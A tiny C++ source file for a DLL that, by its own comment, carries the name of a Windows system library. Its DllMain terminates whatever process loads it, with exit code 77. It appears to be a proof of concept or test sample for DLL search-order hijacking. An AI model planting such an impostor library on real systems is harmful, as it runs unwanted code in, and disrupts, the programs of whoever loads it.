// A library under the name of one of Windows's: whoever loads it ends with the code below.
#include <windows.h>

extern "C" BOOL WINAPI DllMain(HINSTANCE, DWORD reason, void*) {
    if (reason == DLL_PROCESS_ATTACH) TerminateProcess(GetCurrentProcess(), 77);
    return TRUE;
}
